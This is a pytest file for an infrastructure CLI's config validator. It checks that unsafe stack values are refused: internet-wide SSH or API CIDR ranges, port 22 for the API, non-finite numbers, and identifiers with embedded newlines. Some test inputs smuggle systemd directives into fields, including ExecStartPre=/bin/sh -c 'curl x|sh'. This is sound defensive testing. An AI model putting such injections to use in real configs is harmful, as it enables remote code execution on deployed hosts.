"""Every accepted-but-dangerous stack value from issue 13 now stops at the door: exit 2, one
line naming the key, the value and what is allowed, before anything is rendered."""

from __future__ import annotations

import json

import pytest
from typer.testing import CliRunner

from dsinfra.cli.main import app
from dsinfra.config import parse_stack_config
from dsinfra.errors import ConfigError

BASE = {"tier": "dev", "budget": {"amountUsd": 100}}
runner = CliRunner()


@pytest.mark.parametrize(("override", "key"), [
    # network exposure: the whole internet in pieces, IPv4 and IPv6, SSH and API
    ({"sshAllowedCidrs": ["0.0.0.0/1", "128.0.0.0/1"]}, "dsinfra:sshAllowedCidrs"),
    ({"sshAllowedCidrs": ["10.0.0.0/8", "11.0.0.0/8"]}, "dsinfra:sshAllowedCidrs"),
    ({"sshAllowedCidrs": ["::/1", "8000::/1"]}, "dsinfra:sshAllowedCidrs"),
    ({"sshAllowedCidrs": ["2000::/3"]}, "dsinfra:sshAllowedCidrs"),
    ({"apiAllowedCidrs": ["0.0.0.0/0"]}, "dsinfra:apiAllowedCidrs"),
    ({"apiAllowedCidrs": ["::/0"]}, "dsinfra:apiAllowedCidrs"),
    # the API port must never be SSH's
    ({"apiAllowedCidrs": ["203.0.113.0/24"], "apiPort": 22}, "dsinfra:apiPort"),
    ({"engine": {"name": "vllm", "port": 22}}, "dsinfra:engine.port"),
    # identifiers that reach a unit file, an env file or a tag
    ({"model": "org/name\nExecStartPre=/bin/sh -c 'curl x|sh'"}, "dsinfra:model"),
    ({"model": "x" * 100_000}, "dsinfra:model"),
    ({"model": "DeepSeek-R1"}, "dsinfra:model"),
    ({"model": "org/../name"}, "dsinfra:model"),
    ({"owner": "a" * 5000}, "dsinfra:owner"),
    ({"owner": "alice\nbob"}, "dsinfra:owner"),
    ({"owner": "alice\u202e"}, "dsinfra:owner"),
    ({"owner": ""}, "dsinfra:owner"),
    ({"tags": {"team": "x\ny"}}, "dsinfra:tags.team"),
    ({"tags": {"te\nam": "x"}}, "dsinfra:tags"),
    ({"engine": {"name": "vllm", "extraArgs": ["--x\n--y"]}}, "dsinfra:engine.extraArgs"),
    ({"engine": {"name": "vllm", "healthPath": "/h\nExecStart=x"}}, "dsinfra:engine.healthPath"),
    ({"engine": {"name": "custom", "image": "a/b:1\nx", "port": 80}}, "dsinfra:engine.image"),
    ({"availabilityZone": "us-east-1a\nx"}, "dsinfra:availabilityZone"),
    # numbers: booleans, infinities, overflow
    ({"budget": {"amountUsd": True}}, "dsinfra:budget.amountUsd"),
    ({"budget": {"amountUsd": 1e300}}, "dsinfra:budget.amountUsd"),
    ({"budget": {"amountUsd": float("nan")}}, "dsinfra:budget.amountUsd"),
    ({"ttlHours": float("inf")}, "dsinfra:ttlHours"),
    ({"ttlHours": 1e12}, "dsinfra:ttlHours"),
    ({"ttlHours": 7e7, "expiresAt": "2026-12-01T18:00:00Z"}, "dsinfra:ttlHours"),
    ({"expiresAt": "9999-12-31T23:59:59Z"}, "dsinfra:expiresAt"),
    ({"nodeCount": True}, "dsinfra:nodeCount"),
    ({"maxModelLen": 1e300}, "dsinfra:maxModelLen"),
    ({"apiIdleTimeoutS": 59}, "dsinfra:apiIdleTimeoutS"),   # below the NLB's 60-6000 s
    ({"apiIdleTimeoutS": 6001}, "dsinfra:apiIdleTimeoutS"),
    ({"apiIdleTimeoutS": True}, "dsinfra:apiIdleTimeoutS"),
])
def test_dangerous_values_from_the_issue_are_refused(override, key):
    with pytest.raises(ConfigError) as caught:
        parse_stack_config("s", {**BASE, **override})
    assert caught.value.key == key
    message = str(caught.value)
    assert "allowed:" in message and "\n" not in message and len(message) < 600


@pytest.mark.parametrize("override", [
    {"sshAllowedCidrs": ["10.0.0.0/8"]},                       # exactly a /8: allowed
    {"sshAllowedCidrs": ["10.0.0.0/9", "10.128.0.0/9"]},       # a /8 in two pieces
    {"apiAllowedCidrs": ["203.0.113.0/24", "2001:db8::/32"]},
    {"apiAllowedCidrs": ["203.0.113.0/24"], "apiPort": 8443},
    {"model": "deepseek-ai/DeepSeek-R1-Distill-Qwen-7B"},
    {"owner": "Jürgen Müller ml-platform alice@example.com"},
    {"tags": {"cost-center": "ml/inference:gpu=a+b"}},
    {"ttlHours": 24, "budget": {"amountUsd": 0.5}},
])
def test_values_within_the_grammar_are_accepted(override):
    parse_stack_config("s", {**BASE, **override})


def test_split_world_ssh_cidrs_exit_2_through_plan(tmp_path, monkeypatch):
    from .conftest import VALID_STACK, write_stack

    project = tmp_path / "p"
    (project / "stacks").mkdir(parents=True)
    (project / "Pulumi.yaml").write_text("name: dsinfra\n")
    monkeypatch.setenv("DSINFRA_PROJECT_DIR", str(project))
    write_stack(project, "side", VALID_STACK + "  dsinfra:sshAllowedCidrs: [0.0.0.0/1, "
                "128.0.0.0/1]\n")
    result = runner.invoke(app, ["plan", "side", "--json"])
    assert result.exit_code == 2 and json.loads(result.stdout)["exit_status"] == 2
    assert "dsinfra:sshAllowedCidrs" in result.output and "100.000%" in result.output
